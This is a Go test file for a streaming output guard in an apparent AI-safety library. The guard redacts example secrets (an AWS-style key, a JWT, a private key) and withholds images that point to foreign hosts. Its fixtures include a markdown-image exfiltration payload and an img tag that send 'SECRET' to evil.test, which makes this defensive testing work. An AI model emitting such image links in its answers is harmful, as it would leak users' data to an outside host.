package secureai

import (
	"context"
	"strings"
	"testing"

	"github.com/secureai-go/secureai/sanitize"
)

// The secrets of the guard tests: a fixed-length key, an open-ended JWT and
// a PEM block.
var guardSecrets = []string{
	"AKIAIOSFODNN7EXAMPLE",
	"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
	"-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\nKUpRKfFLfRYC9AIKjbJTWit+CqvjWYzvQwECAwEAAQJAIJLixBy2qpFoS4DSmoEm\n-----END RSA PRIVATE KEY-----",
}

func testSafety() *outputSafety {
	cfg := defaultConfig()
	cfg.output = &OutputPolicy{Secrets: sanitize.Redact}
	return builtinOutputChecks(cfg)[0].(*outputSafety)
}

// stream feeds text to a guard in the chunks that cuts selects and returns
// what it released, or the error that ended it.
func stream(t testing.TB, o *outputSafety, text string, cuts []byte) (string, error) {
	g := o.CheckStream(context.Background(), &Call{})
	var out strings.Builder
	pos := 0
	for _, c := range cuts {
		if pos >= len(text) {
			break
		}
		n := min(int(c)%64+1, len(text)-pos)
		rel, err := g.Next(0, text[pos:pos+n])
		if err != nil {
			return out.String(), err
		}
		out.WriteString(rel)
		pos += n
	}
	if pos < len(text) {
		rel, err := g.Next(0, text[pos:])
		if err != nil {
			return out.String(), err
		}
		out.WriteString(rel)
	}
	rest, err := g.End(0)
	out.WriteString(rest)
	return out.String(), err
}

func TestStreamGuardMatchesWholeText(t *testing.T) {
	o := testSafety()
	for _, secret := range guardSecrets {
		text := "Here is what you asked for:\n\n" + secret + "\n\nKeep it safe, and rotate it soon."
		whole, err := o.checkText(&Call{}, "", text)
		if err != nil {
			t.Fatal(err)
		}
		for _, size := range []byte{0, 1, 2, 5, 13, 63} {
			cuts := make([]byte, len(text))
			for i := range cuts {
				cuts[i] = size
			}
			got, err := stream(t, o, text, cuts)
			if err != nil {
				t.Fatal(err)
			}
			if got != whole {
				t.Errorf("chunks of %d: stream released\n%q\nwhole text gives\n%q", size+1, got, whole)
			}
		}
	}
}

// TestStreamGuardHeldWindows streams answers that keep a window of more
// than windowRetryMin bytes from being released (an unmatched '[', tags
// without an end, a run without spaces), so that the guard waits for the
// window to grow before it tries again, and checks that the image to a
// foreign host is never released and that what is released is what the
// whole answer gives. (The tags case may differ from the whole answer:
// a cut inside one long tag releases its first part as text, which holds
// no URL.)
func TestStreamGuardHeldWindows(t *testing.T) {
	o := testSafety()
	const exfil = "![x](https://evil.test/p.png?q=SECRET)"
	for _, tc := range []struct {
		text string
		same bool
	}{
		{"See [note " + strings.Repeat("more words here ", 400) + "] and " + exfil + "\n\nDone.", true},
		{strings.Repeat("[", 3000) + exfil + " tail", true},
		{strings.Repeat("abcdefgh", 900) + exfil + " and more text after it.", true},
		{strings.Repeat("<img ", 800) + `<img src="https://evil.test/?q=SECRET">` + " " + exfil + " end", false},
	} {
		whole, err := o.checkText(&Call{}, "", tc.text)
		if err != nil {
			t.Fatal(err)
		}
		for _, size := range []byte{0, 15, 62} {
			cuts := make([]byte, len(tc.text))
			for i := range cuts {
				cuts[i] = size
			}
			got, err := stream(t, o, tc.text, cuts)
			if err != nil {
				t.Fatal(err)
			}
			if tc.same && got != whole {
				t.Errorf("%.30q…, chunks of %d: stream released\n%.200q\nwhole text gives\n%.200q", tc.text, size+1, got, whole)
			}
			if strings.Contains(got, "evil.test") {
				t.Errorf("%.30q…, chunks of %d: released the foreign image", tc.text, size+1)
			}
		}
	}
}

func TestStreamGuardBoundsMemory(t *testing.T) {
	o := testSafety()
	g := o.CheckStream(context.Background(), &Call{}).(*windowGuard)
	word := strings.Repeat("a", 40) + " "
	for range 100_000 { // 4 MB of answer
		if _, err := g.Next(0, word); err != nil {
			t.Fatal(err)
		}
		if held := len(g.chans[0].pending); held > g.hold+len(word) {
			t.Fatalf("holding %d bytes", held)
		}
	}
	// An unterminated private key is held up to the cap, then refused.
	g = o.CheckStream(context.Background(), &Call{}).(*windowGuard)
	var err error
	for i := 0; err == nil && i < 10_000; i++ {
		text := "line of base64 MIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\n"
		if i == 0 {
			text = "-----BEGIN PRIVATE KEY-----\n"
		}
		_, err = g.Next(0, text)
		if held := len(g.chans[0].pending); held > g.maxHold+len(text) {
			t.Fatalf("holding %d bytes past the cap", held)
		}
	}
	if e, ok := err.(*Error); !ok || e.Reason != "unterminated_private_key" {
		t.Fatalf("err = %v", err)
	}
	// A JWT-like run past the cap is refused; another long run is released.
	for _, tc := range []struct{ head, reason string }{{"eyJhbGciOiJIUzI1NiJ9.", "unterminated_token"}, {"https://example.com/", ""}} {
		g = o.CheckStream(context.Background(), &Call{}).(*windowGuard)
		_, err = g.Next(0, "see "+tc.head)
		released := 0
		for i := 0; err == nil && i < 2000; i++ {
			var rel string
			rel, err = g.Next(0, "abcdefghijklmnopqrstuvwxyz")
			released += len(rel)
		}
		if tc.reason == "" {
			if err != nil || released == 0 {
				t.Errorf("%s: err %v, released %d", tc.head, err, released)
			}
		} else if e, ok := err.(*Error); !ok || e.Reason != tc.reason {
			t.Errorf("%s: err = %v, want %s", tc.head, err, tc.reason)
		}
	}
}

func FuzzStreamGuard(f *testing.F) {
	f.Add("Use ", " now.", []byte{3, 7, 1, 1, 60}, uint8(0))
	f.Add("", "", []byte{0}, uint8(1))
	f.Add("token=", "\n", []byte{9, 9, 9}, uint8(2))
	o := testSafety()
	f.Fuzz(func(t *testing.T, prefix, suffix string, cuts []byte, which uint8) {
		secret := guardSecrets[int(which)%len(guardSecrets)]
		text := prefix + " " + secret + " " + suffix
		got, err := stream(t, o, text, cuts)
		if err != nil {
			return // refusing is safe
		}
		head := secret[:12]
		if strings.Contains(got, head) && !strings.Contains(prefix+suffix, head) {
			t.Fatalf("released the secret: %q", got)
		}
	})
}

func BenchmarkStreamGuard(b *testing.B) {
	o := testSafety()
	answer := strings.Repeat("The quarterly report shows steady growth in every region we serve. ", 60) // ~4 KB
	const chunk = 16                                                                                    // bytes per delta, about 4 tokens
	b.ReportAllocs()
	b.SetBytes(int64(len(answer)))
	for b.Loop() {
		g := o.CheckStream(context.Background(), &Call{})
		for i := 0; i < len(answer); i += chunk {
			if _, err := g.Next(0, answer[i:min(i+chunk, len(answer))]); err != nil {
				b.Fatal(err)
			}
		}
		if _, err := g.End(0); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/float64((len(answer)+chunk-1)/chunk), "ns/chunk")
}

// BenchmarkStreamGuardHostile streams 64 KiB answers that keep the
// guard's window from being released (an unmatched '[', tags without an
// end, a run without spaces) in chunks of 16 bytes: each chunk used to
// rescan the whole window, up to MaxHold, and "<img " repeated took
// minutes.
func BenchmarkStreamGuardHostile(b *testing.B) {
	o := testSafety()
	for _, u := range []string{"[", "![", "<img ", `<img src="x" `, "<", "a"} {
		text := strings.Repeat(u, (64<<10)/len(u))
		b.Run(strings.TrimSpace(u), func(b *testing.B) {
			b.SetBytes(int64(len(text)))
			for b.Loop() {
				g := o.CheckStream(context.Background(), &Call{})
				for i := 0; i < len(text); i += 16 {
					if _, err := g.Next(0, text[i:min(i+16, len(text))]); err != nil {
						b.Fatal(err)
					}
				}
				if _, err := g.End(0); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

func BenchmarkOutputChecks(b *testing.B) {
	o := testSafety()
	answer := strings.Repeat("The quarterly report shows steady growth in every region we serve. ", 60)
	b.ReportAllocs()
	b.SetBytes(int64(len(answer)))
	for b.Loop() {
		if _, err := o.checkText(&Call{}, "", answer); err != nil {
			b.Fatal(err)
		}
	}
}
